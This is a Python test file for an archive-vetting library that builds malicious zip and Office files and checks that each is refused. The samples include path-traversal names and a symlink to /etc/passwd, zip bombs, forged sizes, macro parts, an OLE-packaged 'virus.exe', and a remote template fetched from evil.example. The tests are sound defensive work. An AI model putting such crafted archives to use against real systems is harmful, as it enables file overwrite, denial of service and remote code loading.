"""Archives: what hides, lies or swells is refused before anything is used."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
from collections.abc import Callable

import pytest

from loa.lib.archive import ArchiveLimits, BadArchive, open_office, open_zip


def make_zip(*entries: tuple[str | zipfile.ZipInfo, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for name, data in entries:
            archive.writestr(name, data, method)
    return out.getvalue()


def reason(
    data: bytes, limits: ArchiveLimits | None = None, door: Callable[..., object] = open_zip
) -> object:
    with pytest.raises(BadArchive) as caught:
        door(data, limits)
    return caught.value.facts["reason"]


def test_it_opens_a_plain_archive_and_reads_its_entries() -> None:
    archive = open_zip(make_zip(("a.txt", b"1"), ("b/c.txt", b"22")))
    assert archive.names == ("a.txt", "b/c.txt")
    assert archive.read("b/c.txt") == b"22"
    with pytest.raises(KeyError):
        archive.read("none")


@pytest.mark.parametrize("name", ["/etc/passwd", "../a", "a/../../b", "C:/a", "a\\b", "a\nb"])
@pytest.mark.fault("A06")
def test_it_refuses_names_that_leave_the_folder(name: str) -> None:
    assert reason(make_zip((name, b"x"))) == "bad_name"


@pytest.mark.fault("A06")
def test_it_refuses_a_symbolic_link() -> None:
    link = zipfile.ZipInfo("link")
    link.external_attr = 0o120777 << 16
    assert reason(make_zip((link, b"/etc/passwd"))) == "link"


@pytest.mark.parametrize("other", ["a.txt", "A.TXT"])
@pytest.mark.fault("A06")
def test_it_refuses_doubled_names(other: str) -> None:
    assert reason(make_zip(("a.txt", b"1"), (other, b"2"))) == "doubled_name"


@pytest.mark.fault("A06")
def test_it_refuses_too_many_entries() -> None:
    assert reason(make_zip(*((str(i), b"") for i in range(11))), ArchiveLimits(entries=10)) == "too_many"


@pytest.mark.fault("A06")
def test_it_refuses_a_bomb_by_ratio_and_by_total() -> None:
    assert reason(make_zip(("a", b"0" * 30_000_000))) == "too_large"
    many = [(str(i), b"0" * 900_000) for i in range(5)]
    assert reason(make_zip(*many), ArchiveLimits(unpacked=3_000_000)) == "too_large"


@pytest.mark.fault("A06")
def test_it_does_not_believe_a_small_size_written_in_the_directory() -> None:
    data = bytearray(make_zip(("a", b"0" * 900_000)))
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = data.find(signature) + offset
        data[place : place + 4] = struct.pack("<I", 10)
    assert reason(bytes(data)) == "lying_size"


@pytest.mark.fault("A06")
def test_it_refuses_an_encrypted_entry() -> None:
    data = bytearray(make_zip(("a", b"x")))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.find(signature) + offset] |= 1
    assert reason(bytes(data)) == "encrypted"


def test_it_refuses_unusual_compression() -> None:
    assert reason(make_zip(("a", b"x"), method=zipfile.ZIP_LZMA)) == "method"


@pytest.mark.parametrize("cut", [0, 10, 60])
def test_it_refuses_a_broken_archive(cut: int) -> None:
    assert reason(make_zip(("a", b"x" * 100))[:cut]) == "bad_archive"


def test_it_refuses_an_entry_whose_bytes_were_changed() -> None:
    data = bytearray(make_zip(("a", b"x" * 100), method=zipfile.ZIP_STORED))
    data[40] ^= 1
    assert reason(bytes(data)) == "bad_archive"


@pytest.mark.parametrize(
    "part", ["xl/vbaProject.bin", "xl/activeX/activeX1.xml", "xl/macrosheets/sheet1.xml", "a.exe"]
)
@pytest.mark.fault("A06")
def test_it_refuses_macros_in_office_files(part: str) -> None:
    assert reason(make_zip(("[Content_Types].xml", b"<Types/>"), (part, b"x")), door=open_office) == "macro"


def test_it_refuses_a_document_that_fetches_its_template() -> None:
    rels = (
        b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    assert reason(make_zip(("word/_rels/settings.xml.rels", rels)), door=open_office) == "remote"


def test_it_takes_an_office_file_with_an_ordinary_link() -> None:
    rels = (
        b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/hyperlink" Target="https://hanoi.gov.vn" TargetMode="External"/></Relationships>'
    )
    assert open_office(make_zip(("word/_rels/document.xml.rels", rels))).names


def compound(stream: str, content: bytes) -> bytes:
    """A compound file of three sectors: FAT, directory, one stream of 4,096 bytes."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHH", header, 26, 3, 0xFFFE, 9)
    struct.pack_into("<IIIIIIII", header, 44, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    struct.pack_into("<109I", header, 76, 0, *[0xFFFFFFFF] * 108)
    chain = [0xFFFFFFFD, 0xFFFFFFFE, *range(3, 10), 0xFFFFFFFE]
    fat = struct.pack("<128I", *chain, *[0xFFFFFFFF] * (128 - len(chain)))
    entries = [("Root Entry", 5, 0xFFFFFFFE, 0), (stream, 2, 2, 4096)]
    directory = b"".join(
        name.encode("utf-16-le").ljust(64, b"\0")
        + struct.pack("<HB", 2 * len(name) + 2, kind)
        + b"\0" * 49
        + struct.pack("<III", at, size, 0)
        for name, kind, at, size in entries
    )
    return bytes(header) + fat + directory.ljust(512, b"\0") + content.ljust(4096, b"\0")


@pytest.mark.parametrize(
    ("stream", "content"),
    [("\x01Ole10Native", b"\x10\0\0\0\x02\0virus.exe"), ("VBA", b"x")],
)
def test_it_refuses_a_file_packed_behind_an_icon(stream: str, content: bytes) -> None:
    data = make_zip(
        ("word/document.xml", b"<w/>"), ("word/embeddings/oleObject1.bin", compound(stream, content))
    )
    assert reason(data, door=open_office) == "package"


@pytest.mark.parametrize(
    ("stream", "content"), [("\x01Ole10Native", b"\x10\0\0\0BM picture"), ("Equation Native", b"x")]
)
def test_it_takes_embedded_pictures_and_equations(stream: str, content: bytes) -> None:
    data = make_zip(
        ("word/document.xml", b"<w/>"), ("word/embeddings/oleObject1.bin", compound(stream, content))
    )
    assert len(open_office(data).names) == 2


def test_it_refuses_an_embedded_object_that_cannot_be_looked_into() -> None:
    broken = compound("x", b"")[:520]
    assert reason(make_zip(("word/embeddings/oleObject1.bin", broken)), door=open_office) == "package"
